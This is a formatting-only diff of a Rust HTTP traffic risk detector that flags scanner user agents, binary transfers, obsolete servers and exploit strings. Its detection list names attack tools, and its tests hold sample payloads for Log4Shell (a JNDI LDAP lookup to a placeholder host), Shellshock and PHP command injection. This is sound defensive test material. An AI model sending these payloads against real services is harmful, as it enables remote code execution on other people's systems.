@@ -8,8 +8,22 @@ use crate::vocabulary::Risk;
 
 /// Names of programs that search for weaknesses, as they give them.
 const SCANNERS: [&str; 16] = [
-    "sqlmap/", "nikto/", "nmap scripting engine", "masscan/", "zgrab", "dirbuster", "gobuster/", "wpscan", "acunetix", "nessus",
-    "w3af.", "havij", "openvas", "nuclei", "fuzz faster", "hydra",
+    "sqlmap/",
+    "nikto/",
+    "nmap scripting engine",
+    "masscan/",
+    "zgrab",
+    "dirbuster",
+    "gobuster/",
+    "wpscan",
+    "acunetix",
+    "nessus",
+    "w3af.",
+    "havij",
+    "openvas",
+    "nuclei",
+    "fuzz faster",
+    "hydra",
 ];
 
 /// Fields that loaders of malware send (nDPI, "Flow Risks").
@@ -27,7 +41,8 @@ const EXPLOITS: [(&str, &str); 6] = [
 
 /// Suffixes of programs, archives and images of disks.
 const SUFFIXES: [&str; 16] = [
-    ".exe", ".msi", ".dll", ".scr", ".apk", ".dmg", ".pkg", ".deb", ".rpm", ".iso", ".img", ".zip", ".rar", ".7z", ".tgz", ".cab",
+    ".exe", ".msi", ".dll", ".scr", ".apk", ".dmg", ".pkg", ".deb", ".rpm", ".iso", ".img", ".zip", ".rar",
+    ".7z", ".tgz", ".cab",
 ];
 
 /// Servers that are not maintained any more: a product and the first version that is.
@@ -119,7 +134,8 @@ fn exploit(value: &[u8], found: &mut Found<'_>) {
     if !value.iter().any(|byte| matches!(byte, b'{' | b'%' | b'.')) {
         return;
     }
-    let text = String::from_utf8_lossy(value).to_ascii_lowercase().replace("%24%7b", "${").replace("%7b", "{");
+    let text =
+        String::from_utf8_lossy(value).to_ascii_lowercase().replace("%24%7b", "${").replace("%7b", "{");
     for (sign, name) in EXPLOITS {
         let Some(at) = memmem::find(text.as_bytes(), sign.as_bytes()) else { continue };
         // A look-up within a look-up hides the word.
@@ -175,9 +191,16 @@ impl Response<'_> {
         // RFC 9110, section 8.3.1; UTF-16 begins with its mark. No text of any character set has these bytes.
         let is_binary = |byte: &u8| matches!(byte, 0..=6 | 0x0e..=0x1a | 0x1c..=0x1f);
         let is_utf16 = begin.starts_with(b"\xff\xfe") || begin.starts_with(b"\xfe\xff");
-        if is_text && !is_utf16 && begin.len() >= 8 && begin.iter().filter(|byte| is_binary(byte)).count() >= 2 {
+        if is_text
+            && !is_utf16
+            && begin.len() >= 8
+            && begin.iter().filter(|byte| is_binary(byte)).count() >= 2
+        {
             let shown: String = begin.iter().take(8).map(|byte| format!("{byte:02x}")).collect();
-            found.risk(Risk::HTTP_SUSPICIOUS_CONTENT, format!("{}: {shown}", String::from_utf8_lossy(self.content_type)));
+            found.risk(
+                Risk::HTTP_SUSPICIOUS_CONTENT,
+                format!("{}: {shown}", String::from_utf8_lossy(self.content_type)),
+            );
         }
     }
 }
@@ -190,8 +213,13 @@ pub(crate) fn body(body: &[u8], found: &mut Found<'_>) {
     if let Some(kind) = program(body) {
         found.risk(Risk::BINARY_APPLICATION_TRANSFER, kind);
     }
-    let archives: [(&[u8], &str); 5] =
-        [(b"PK\x03\x04", "ZIP"), (b"Rar!\x1a\x07", "RAR"), (b"7z\xbc\xaf\x27\x1c", "7z"), (b"\xfd7zXZ\x00", "XZ"), (b"MSCF\0\0\0\0", "CAB")];
+    let archives: [(&[u8], &str); 5] = [
+        (b"PK\x03\x04", "ZIP"),
+        (b"Rar!\x1a\x07", "RAR"),
+        (b"7z\xbc\xaf\x27\x1c", "7z"),
+        (b"\xfd7zXZ\x00", "XZ"),
+        (b"MSCF\0\0\0\0", "CAB"),
+    ];
     if let Some((_, kind)) = archives.iter().find(|(magic, _)| body.starts_with(magic)) {
         found.risk(Risk::BINARY_DATA_TRANSFER, kind);
     }
@@ -251,10 +279,22 @@ mod tests {
     fn requests() {
         for (fields, risk, evidence) in [
             ("User-Agent: <?php system('x'); ?>", Risk::HTTP_SUSPICIOUS_USER_AGENT, "<?php system('x'); ?>"),
-            ("User-Agent: sqlmap/1.7#stable (https://sqlmap.org)", Risk::HTTP_SUSPICIOUS_USER_AGENT, "sqlmap/1.7#stable (https://sqlmap.org)"),
-            ("User-Agent: Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", Risk::HTTP_CRAWLER_BOT, "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
+            (
+                "User-Agent: sqlmap/1.7#stable (https://sqlmap.org)",
+                Risk::HTTP_SUSPICIOUS_USER_AGENT,
+                "sqlmap/1.7#stable (https://sqlmap.org)",
+            ),
+            (
+                "User-Agent: Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
+                Risk::HTTP_CRAWLER_BOT,
+                "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
+            ),
             ("TLS_version: 1.2", Risk::HTTP_SUSPICIOUS_HEADER, "TLS_version"),
-            ("Authorization: Basic QWxhZGRpbjpvcGVuIHNlc2FtZQ==", Risk::CLEAR_TEXT_CREDENTIALS, "HTTP: Aladdin"),
+            (
+                "Authorization: Basic QWxhZGRpbjpvcGVuIHNlc2FtZQ==",
+                Risk::CLEAR_TEXT_CREDENTIALS,
+                "HTTP: Aladdin",
+            ),
             ("X-Api: ${jndi:ldap://x.example/a}", Risk::POSSIBLE_EXPLOIT, "CVE-2021-44228"),
             ("Cookie: () { :; }; /bin/x", Risk::POSSIBLE_EXPLOIT, "CVE-2014-6271"),
         ] {
@@ -274,14 +314,28 @@ mod tests {
         program.extend([0x40, 0, 0, 0]);
         program.extend(b"PE\0\0");
         let kind = "Content-Type: application/octet-stream";
-        assert_eq!(response(kind, &program).outcome().evidence(Risk::BINARY_APPLICATION_TRANSFER), Some("Windows program"));
-        assert_eq!(response(kind, b"MZ something else that is long enough to have the place of an offset").outcome().risks(), []);
-        assert_eq!(response(kind, b"\x7fELF\x02\x01\x01\0").outcome().risks(), [Risk::BINARY_APPLICATION_TRANSFER]);
+        assert_eq!(
+            response(kind, &program).outcome().evidence(Risk::BINARY_APPLICATION_TRANSFER),
+            Some("Windows program")
+        );
+        assert_eq!(
+            response(kind, b"MZ something else that is long enough to have the place of an offset")
+                .outcome()
+                .risks(),
+            []
+        );
+        assert_eq!(
+            response(kind, b"\x7fELF\x02\x01\x01\0").outcome().risks(),
+            [Risk::BINARY_APPLICATION_TRANSFER]
+        );
         assert_eq!(response(kind, b"PK\x03\x04abcdef").outcome().risks(), [Risk::BINARY_DATA_TRANSFER]);
         let outcome = response("Content-Type: text/html", b"\x01\x02\x03\x04\x05\x06\x07\x08").outcome();
         assert_eq!(outcome.evidence(Risk::HTTP_SUSPICIOUS_CONTENT), Some("text/html: 0102030405060708"));
         for (fields, body) in [
-            ("Content-Type: text/html\r\nContent-Encoding: gzip", &b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03"[..]),
+            (
+                "Content-Type: text/html\r\nContent-Encoding: gzip",
+                &b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03"[..],
+            ),
             ("Content-Type: text/html", b"<html>\r\n<body>"),
             ("Content-Type: text/plain", b"\xff\xfeh\0e\0l\0l\0o\0"),
             ("Content-Type: image/png", b"\x89PNG\r\n\x1a\n\0\0\0\x0dIHDR"),
@@ -295,9 +349,18 @@ mod tests {
     #[test]
     fn servers_have_ends_of_support() {
         for (server, obsolete) in [
-            ("Apache/2.2.15 (CentOS)", true), ("Apache/2.4.58 (Unix)", false), ("Apache", false), ("Apache/2", false),
-            ("nginx/1.10.3", true), ("nginx/1.27.0", false), ("nginx", false), ("Microsoft-IIS/7.5", true), ("Microsoft-IIS/10.0", false),
-            ("Apache/2.4.58 PHP/5.4.16", true), ("Apache-Coyote/1.1", false), ("gws", false),
+            ("Apache/2.2.15 (CentOS)", true),
+            ("Apache/2.4.58 (Unix)", false),
+            ("Apache", false),
+            ("Apache/2", false),
+            ("nginx/1.10.3", true),
+            ("nginx/1.27.0", false),
+            ("nginx", false),
+            ("Microsoft-IIS/7.5", true),
+            ("Microsoft-IIS/10.0", false),
+            ("Apache/2.4.58 PHP/5.4.16", true),
+            ("Apache-Coyote/1.1", false),
+            ("gws", false),
         ] {
             assert_eq!(is_obsolete(server.as_bytes()), obsolete, "{server}");
         }
